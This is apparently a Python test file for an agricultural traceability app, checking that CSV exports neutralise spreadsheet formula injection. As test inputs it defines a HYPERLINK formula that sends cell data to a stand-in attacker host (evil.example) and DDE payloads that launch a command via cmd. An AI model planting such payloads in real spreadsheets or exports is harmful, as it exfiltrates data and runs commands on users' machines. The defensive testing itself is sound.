"""CSV formula injection: a facility, product or address that begins with ``=``, ``+``,
``-`` or ``@`` (or a tab or line break) reached the FSMA spreadsheet as is, and a spreadsheet
program opening the export ran it as a formula (OWASP "CSV Injection")."""

from __future__ import annotations

import csv
import datetime as dt
import io

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import example, given
from hypothesis import strategies as st
from sqlalchemy.orm import Session

from agritrace.ledger import store
from agritrace.stamps.codec import sign_serials
from agritrace.stamps.printing import PrintItem, write_csv
from agritrace.trace import events, exports, registry
from agritrace.trace.spreadsheets import FORMULA_STARTS, csv_writer, neutralise

NOW = dt.datetime(2026, 11, 20, 3, 0, tzinfo=dt.UTC)
HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Bấm vào đây")'
HOSTILE_ADDRESS = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_PRODUCT = "+1+cmd|' /C calc'!A0"


def _cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


@given(st.lists(st.text(max_size=30), min_size=1, max_size=6))
@example(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", "＝1"])
def test_no_written_cell_starts_a_formula(row: list[str]) -> None:
    out = io.StringIO(newline="")
    csv_writer(out).writerow(row)
    read = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(read) == len(row)
    for written, original in zip(read, row, strict=True):
        assert not written.startswith(FORMULA_STARTS)
        assert written in {original, "'" + original}


def test_numbers_are_left_alone() -> None:
    assert neutralise(12) == 12
    assert neutralise("12.5") == "12.5"
    assert neutralise("-5") == "'-5"


def test_the_fsma_spreadsheet_neutralises_hostile_names(session: Session) -> None:
    registry.add_facility(
        session, code="EV-01", name=HOSTILE_NAME, province="Hải Dương", address=HOSTILE_ADDRESS
    )
    registry.certify(
        session, facility_code="EV-01", scheme="vietgap", number="VG-EV", issuer="NAFIQAD",
        valid_from="2026-01-01", valid_to="2027-12-31", scope="vải", now=NOW,
    )  # fmt: skip
    registry.add_product(session, code="EVP", name=HOSTILE_PRODUCT, category="fruit", unit="box")
    lot = registry.create_lot(
        session, facility_code="EV-01", product_code="EVP", code="L1", units=10,
        quantity="50", quantity_unit="kg", harvest_date="2026-06-10", origin_area="x", now=NOW,
    )  # fmt: skip
    events.record_event(
        session, step="harvest", lot_ref="EV-01/L1", facility_code="EV-01",
        event_time=NOW - dt.timedelta(days=1), quantity="50", unit="kg",
    )  # fmt: skip
    checkpoint = store.sign_checkpoint(
        session,
        origin="trace.example.vn/agritrace/ledger",
        private_key=Ed25519PrivateKey.generate(),
    )
    export = exports.fsma_csv(session, checkpoint=checkpoint, lots=[lot])
    cells = _cells(export.content.decode("utf-8"))
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    assert "'" + HOSTILE_PRODUCT in cells
    assert f"'{HOSTILE_NAME}, {HOSTILE_ADDRESS}" in cells


def test_the_print_shop_csv_holds_only_serials_and_urls() -> None:
    """Serials are digits and URLs begin with the validated ``HTTPS://`` prefix: nothing there
    can start a formula (checked, not assumed)."""
    key = Ed25519PrivateKey.generate()
    prefix = "HTTPS://TRACE.EXAMPLE.VN/S/"
    stamps = sign_serials(1, 5, key_id=0, private_key=key, prefix=prefix)
    out = io.StringIO(newline="")
    write_csv((PrintItem.from_stamp(stamp, prefix) for stamp in stamps), out)
    cells = _cells(out.getvalue())
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
